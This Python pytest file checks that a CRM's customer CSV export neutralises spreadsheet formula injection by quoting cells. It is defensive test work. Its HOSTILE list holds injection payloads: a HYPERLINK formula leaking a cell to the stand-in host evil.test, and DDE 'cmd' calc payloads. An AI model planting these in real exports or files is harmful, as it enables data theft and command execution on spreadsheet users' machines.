"""CSV exports never hand a spreadsheet a formula: `crm export customers` read back cell by cell."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from agent_desktop.cli import cli
from crm_core.csv_safety import safe_cell
from crm_core.customers.models import Customer, CustomerPhone
from crm_core.customers.schemas import CustomerIn, PhoneIn
from crm_core.customers.service import create_customer
from crm_core.db import make_engine, make_sessionmaker, unit_of_work
from crm_core.users.service import SYSTEM

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"Click for your invoice")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *[(v, "'" + v) for v in HOSTILE],
        ("Alice Example", "Alice Example"),
        ("", ""),
        (None, ""),
        ("+15551230001", "+15551230001"),  # a number stays a number
        ("+15551230001;+15551230002", "+15551230001;+15551230002"),  # the phones column
        ("-12.5", "-12.5"),
        ("+1 (555) 123", "'+1 (555) 123"),  # not a plain number: text it is
        ("a=b", "a=b"),  # only the first character makes a formula
    ],
)
def test_safe_cell(value: str | None, cell: str) -> None:
    assert safe_cell(value) == cell


def test_crm_export_customers_writes_formulas_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'crm.db'}"
    monkeypatch.setenv("CRM_DATABASE_URL", url)
    monkeypatch.setenv("CRM_DATA_DIR", str(tmp_path / "var"))
    runner = CliRunner()
    assert runner.invoke(cli, ["migrate"]).exit_code == 0

    async def fill() -> None:
        engine = make_engine(url)
        try:
            async with unit_of_work(make_sessionmaker(engine)) as session:
                for index, name in enumerate(HOSTILE[:4]):
                    await create_customer(
                        session=session,
                        actor=SYSTEM,
                        region="US",
                        allow_duplicate=True,
                        data=CustomerIn(
                            name=name,
                            phones=[PhoneIn(number=f"+1555123{index:04d}")],
                            city="=1+1",
                            custom_fields={"plan": "@premium"},
                        ),
                    )
                # rows written before input was checked may hold a tab or CR at the start of a cell
                legacy = Customer(name="\t=1+1", street="\r=1+1", custom_fields={})
                legacy.phones = [CustomerPhone(e164="+15551239999", label="mobile")]
                session.add(legacy)
        finally:
            await engine.dispose()

    asyncio.run(fill())
    out = tmp_path / "customers.csv"
    result = runner.invoke(cli, ["export", "customers", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 5
    names = sorted(row["name"] for row in rows)
    assert names == sorted("'" + name for name in [*HOSTILE[:4], "\t=1+1"])
    for row in rows:
        assert row["phones"].startswith("+1555123")  # E.164 numbers are exported as they are
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or column == "phones", (column, cell)
    hostile = [r for r in rows if r["name"] != "'\t=1+1"]
    assert all(r["city"] == "'=1+1" and r["custom.plan"] == "'@premium" for r in hostile)
    assert next(r for r in rows if r["name"] == "'\t=1+1")["street"] == "'\r=1+1"
